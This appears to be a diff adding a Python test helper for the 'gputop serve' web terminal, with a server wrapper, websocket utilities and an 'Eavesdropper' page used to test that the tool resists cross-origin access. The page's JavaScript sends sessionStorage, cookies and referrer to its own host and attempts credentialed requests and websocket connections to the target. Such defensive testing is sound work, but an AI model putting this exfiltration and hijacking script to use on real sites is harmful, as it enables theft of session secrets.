@@ -1,0 +1,198 @@
+"""`gputop serve demo` on a free port, those who look at it, and a program that listens on another port."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+from types import TracebackType
+from typing import Any
+from urllib.parse import urlencode
+
+ROOT = Path(__file__).parent.parent.parent
+
+
+def environment() -> dict[str, str]:
+    return {**os.environ, "PYTHONPATH": str(ROOT), "PYTHONUNBUFFERED": "1"}
+
+
+class Serving:
+    """``gputop serve SOURCE`` in a process, and a session of an HTTP client."""
+
+    def __init__(self, source: str = "demo") -> None:
+        self._stderr = tempfile.TemporaryFile()  # noqa: SIM115 - closed with the server
+        self.process = subprocess.Popen(
+            [sys.executable, "-m", "gputop", "serve", source, "--port", "0"],
+            env=environment(),
+            cwd=ROOT,
+            stdout=subprocess.PIPE,
+            stderr=self._stderr,
+            text=True,
+        )
+        assert self.process.stdout is not None
+        self.address = self.process.stdout.readline().strip()
+        self.base, _, self.key = self.address.partition("/#token=")
+        assert self.key, self.said()
+        self.port = int(self.base.rpartition(":")[2])
+
+    async def __aenter__(self) -> Serving:
+        from aiohttp import ClientSession
+
+        self.session = ClientSession()
+        return self
+
+    async def __aexit__(self, kind: type[BaseException] | None, error: object, trace: TracebackType | None) -> None:
+        await self.session.close()
+        self.process.kill()
+        self.process.wait()
+        assert self.process.stdout is not None
+        self.process.stdout.close()
+        self._stderr.close()
+
+    def said(self) -> str:
+        """All that it has written to stderr."""
+        return os.pread(self._stderr.fileno(), 1 << 20, 0).decode("utf-8", "replace")
+
+    def viewers(self) -> list[int]:
+        """Processes of viewers that are running."""
+        children = Path(f"/proc/{self.process.pid}/task/{self.process.pid}/children").read_text().split()
+        return [int(pid) for pid in children]
+
+    async def opened(self, **size: int) -> Any:
+        """A socket on which the key was sent."""
+        address = f"{self.base}/ws?{urlencode(size)}"
+        socket = await self.session.ws_connect(address, headers={"Origin": self.base}, max_msg_size=0)
+        await socket.send_json(["key", self.key])
+        return socket
+
+    async def look(self, **size: int) -> Any:
+        """The same, when the screen has been drawn."""
+        socket = await self.opened(**size)
+        await self._until(socket, b"NOT WORKING")
+        return socket
+
+    async def type(self, socket: Any, text: str, *, until: bytes) -> None:
+        await socket.send_json(["stdin", text])
+        await self._until(socket, until)
+
+    async def _until(self, socket: Any, text: bytes) -> None:
+        seen = b""
+
+        async def read() -> None:
+            nonlocal seen
+            while text not in seen:
+                message = await socket.receive()
+                assert isinstance(message.data, bytes), (message, self.said())
+                seen += message.data
+
+        await asyncio.wait_for(read(), 60)
+
+    async def closing(self, socket: Any) -> tuple[int, str]:
+        """Code and reason with which the server closes a socket."""
+        from aiohttp import WSMsgType
+
+        while (message := await socket.receive(timeout=30)).type is not WSMsgType.CLOSE:
+            assert message.type in (WSMsgType.BINARY, WSMsgType.TEXT), message
+        return int(message.data), str(message.extra)
+
+    def upgrade(self, **size: int) -> bytes:
+        """The request that opens the socket, as bytes."""
+        return (
+            f"GET /ws?{urlencode(size)} HTTP/1.1\r\nHost: 127.0.0.1:{self.port}\r\nOrigin: {self.base}\r\n"
+            "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
+        ).encode()
+
+    async def replay(self, path: str, headers: dict[str, str]) -> int:
+        """The status with which a request for the socket with these headers ends; a close code 4403 counts as 403."""
+        from aiohttp import WSMsgType, WSServerHandshakeError
+
+        kept = {name: value for name, value in headers.items() if name.lower() not in HOP_BY_HOP}
+        query = path.partition("?")[2]
+        try:
+            socket = await self.session.ws_connect(f"{self.base}/ws?{query}", headers=kept)
+        except WSServerHandshakeError as error:
+            return error.status
+        # Whatever could be taken for a key.
+        await socket.send_json(["key", headers.get("Cookie", "") or headers.get("Referer", "")])
+        message = await socket.receive(timeout=30)
+        await socket.close()
+        return int(message.data) - 4000 if message.type is WSMsgType.CLOSE else 200
+
+
+HOP_BY_HOP = {"connection", "upgrade", "sec-websocket-key", "sec-websocket-version", "sec-websocket-extensions"}
+
+
+class Eavesdropper:
+    """Another program on another port of this machine, whose page tries to get at the screen and keeps all it hears."""
+
+    def __init__(self, target: str) -> None:
+        self.heard: list[tuple[str, dict[str, str]]] = []
+        self._target = target
+
+    async def __aenter__(self) -> Eavesdropper:
+        from aiohttp import web
+
+        application = web.Application()
+        application.router.add_get("/{rest:.*}", self._hear)
+        self._runner = web.AppRunner(application)
+        await self._runner.setup()
+        site = web.TCPSite(self._runner, "127.0.0.1", 0)
+        await site.start()
+        self.base = f"http://127.0.0.1:{self._runner.addresses[0][1]}"
+        return self
+
+    async def __aexit__(self, *_: object) -> None:
+        await self._runner.cleanup()
+
+    async def _hear(self, request: Any) -> Any:
+        from aiohttp import web
+
+        self.heard.append((str(request.rel_url), dict(request.headers)))
+        return web.Response(text=PAGE.replace("TARGET", self._target), content_type="text/html")
+
+
+PAGE = """<!DOCTYPE html><title>other</title><body><img src="/image"><iframe src="TARGET/"></iframe><script>
+const socket = (address) => new Promise((done) => { const s = new WebSocket(address); s.onclose = s.onerror = done; });
+(async () => {
+  await fetch("/fetched?" + encodeURIComponent(JSON.stringify(sessionStorage) + document.cookie + document.referrer));
+  await fetch("TARGET/", { credentials: "include" }).catch(() => 0);
+  await socket("TARGET/ws".replace("http", "ws"));
+  await socket("ws://" + location.host + "/ws?width=80&height=24");
+  document.title = "done";
+})();
+</script>"""
+
+
+def frame(message: object) -> bytes:
+    """A masked text frame of a client (RFC 6455, section 5.2), with a mask of zeros."""
+    content = json.dumps(message).encode()
+    length = bytes([0x80 | len(content)]) if len(content) < 126 else b"\xfe" + len(content).to_bytes(2, "big")
+    return b"\x81" + length + b"\0\0\0\0" + content
+
+
+async def gone(pids: list[int], seconds: float) -> None:
+    """Until these processes have ended. Raises AssertionError when they take longer."""
+    deadline = time.monotonic() + seconds
+    while alive := [pid for pid in pids if _is_alive(pid)]:
+        assert time.monotonic() < deadline, f"left behind: {alive}"
+        await asyncio.sleep(0.02)
+
+
+def _is_alive(pid: int) -> bool:
+    try:
+        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
+    except (FileNotFoundError, ProcessLookupError):
+        return False
+
+
+def peak_mib(pid: int) -> int:
+    """The most memory that a process has had so far."""
+    status = Path(f"/proc/{pid}/status").read_text()
+    (line,) = [line for line in status.splitlines() if line.startswith("VmHWM")]
+    return int(line.split()[1]) // 1024
